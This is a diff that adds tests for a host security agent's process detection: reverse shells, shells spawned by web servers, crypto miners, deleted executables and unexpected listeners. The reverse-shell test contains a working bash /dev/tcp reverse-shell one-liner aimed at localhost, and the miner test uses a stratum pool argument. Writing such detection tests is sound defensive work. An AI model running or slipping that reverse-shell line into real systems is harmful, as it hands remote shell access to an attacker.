@@ -13,7 +13,9 @@ import json
 import os
 import shutil
 import signal
+import socket
 import subprocess
+import sys
 import time
 import unittest
 
@@ -405,6 +407,124 @@ class BruteForce(unittest.TestCase):
         self.failed_login("root")
         time.sleep(1.5)
         self.assertEqual(len([e for e in self.events() if "bruteforce.source" in e["rules"]]), 1)
+
+
+def event_detail(ev, category):
+    full = AUDITOR.request("GET", "/api/v1/events/%d" % ev["id"]).json()
+    return full.get("event", full).get(category) or full.get("raw", {}).get(category)
+
+
+class Processes(unittest.TestCase):
+    """Real processes on the real kernel: exec events from the process connector."""
+
+    @classmethod
+    def setUpClass(cls):
+        if os.geteuid() != 0:
+            raise unittest.SkipTest("the process connector needs CAP_NET_ADMIN")
+        cls.agent = Agent(RD.port, enrolment_token(), hostname="proc-1",
+                          extra_conf="process_monitor on\nprocess_scan_seconds 2\n")
+        cls.agent.start()
+        cls.agent.wait_log("process: exec events from the process connector")
+        cls.agent.wait_log("fim: scan done")
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.agent.stop()
+
+    def events(self, detection):
+        r = AUDITOR.request("GET", "/api/v1/events?category=process&limit=500")
+        self.assertEqual(r.status, 200, r)
+        return [e for e in r.json()["events"] if detection in e["rules"]]
+
+    def for_pid(self, detection, pid, timeout=5):
+        def find():
+            for e in self.events(detection):
+                d = event_detail(e, "process")
+                if d and d["pid"] == pid:
+                    return e, d
+            return None
+        return wait_for(find, timeout=timeout, step=0.2)
+
+    def test_a_reverse_shell_is_detected_an_ordinary_shell_is_not(self):
+        listener = socket.socket()
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(1)
+        port = listener.getsockname()[1]
+        ordinary = subprocess.Popen(["bash", "-c", "sleep 3; true"], stdin=subprocess.DEVNULL,
+                                    stdout=subprocess.DEVNULL)
+        started = time.time()
+        shell = subprocess.Popen(["bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port],
+                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                                 stderr=subprocess.DEVNULL, start_new_session=True)
+        conn, _ = listener.accept()
+        try:
+            found = self.for_pid("process.reverse_shell", shell.pid)
+            self.assertTrue(found, self.agent.log_tail())
+            self.assertLess(time.time() - started, 5)
+            ev, d = found
+            self.assertEqual(ev["client"], "127.0.0.1")
+            self.assertEqual(ev["source"], "agent:proc-1")
+            self.assertEqual(d["exe"], os.path.realpath(shutil.which("bash")))
+            self.assertIn("bash -i", d["cmdline"])
+            self.assertEqual(d["evidence"]["remote"], "127.0.0.1:%d" % port)
+            self.assertIn(0, d["evidence"]["fds"])
+            self.assertTrue(d["parents"], d)
+            # the ordinary shell (stdin /dev/null, stdout a pipe) is not one
+            self.assertIsNone(self.for_pid("process.reverse_shell", ordinary.pid, timeout=2.5))
+        finally:
+            conn.close()
+            listener.close()
+            os.killpg(shell.pid, signal.SIGKILL)
+            shell.wait()
+            ordinary.wait()
+
+    def test_web_server_child_miner_deleted_file_and_listener(self):
+        tmp = self.agent.dir
+        # a worker titled "nginx" (prctl PR_SET_NAME) starting a shell
+        web = subprocess.Popen([sys.executable, "-c",
+                                "import ctypes, subprocess\n"
+                                "ctypes.CDLL(None).prctl(15, b'nginx', 0, 0, 0)\n"
+                                "subprocess.run(['sh', '-c', 'sleep 2; true'])"])
+        miner = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3)",
+                                  "-o", "stratum+tcp://pool.example:3333"])
+        copy = os.path.join(tmp, "sleep-copy")
+        shutil.copy("/bin/sleep", copy)
+        deleted = subprocess.Popen([copy, "6"])
+        time.sleep(0.2)
+        os.unlink(copy)
+        listen = subprocess.Popen([sys.executable, "-c",
+                                   "import socket, time\ns = socket.socket()\n"
+                                   "s.bind(('127.0.0.1', 0)); s.listen(1); time.sleep(6)"])
+        try:
+            found = wait_for(lambda: [d for d in (event_detail(e, "process") for e in
+                                                  self.events("process.web_server_shell"))
+                                      if d["evidence"]["server_pid"] == web.pid], timeout=5)
+            self.assertTrue(found, self.agent.log_tail())
+            self.assertEqual(found[0]["evidence"]["server_comm"], "nginx")
+            self.assertTrue(self.for_pid("process.crypto_miner", miner.pid), self.agent.log_tail())
+            d = self.for_pid("process.deleted_executable", deleted.pid, timeout=6)
+            self.assertTrue(d, self.agent.log_tail())
+            self.assertEqual(d[1]["evidence"]["file"], copy)
+            d = self.for_pid("process.unexpected_listener", listen.pid, timeout=6)
+            self.assertTrue(d, self.agent.log_tail())
+            self.assertTrue(d[1]["evidence"]["listen"].startswith("127.0.0.1:"))
+        finally:
+            for p in (web, miner, deleted, listen):
+                p.kill()
+                p.wait()
+
+    def test_switched_off_by_rampartd(self):
+        aid = agents()["proc-1"]["id"]
+        r = SECOPS.request("PATCH", "/api/v1/agents/%d" % aid, {"capabilities": {"process": False}})
+        self.assertEqual(r.status, 200, r)
+        self.assertFalse(r.json()["capabilities"]["process"])
+        self.agent.wait_log('capability switched by rampartd" process=off', timeout=5)
+        miner = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(2)", "--donate-level"])
+        self.assertIsNone(self.for_pid("process.crypto_miner", miner.pid, timeout=2.5))
+        miner.wait()
+        r = SECOPS.request("PATCH", "/api/v1/agents/%d" % aid, {"capabilities": {"process": True}})
+        self.assertEqual(r.status, 200, r)
+        self.agent.wait_log('capability switched by rampartd" process=on', timeout=5)
 
 
 class Lifecycle(unittest.TestCase):
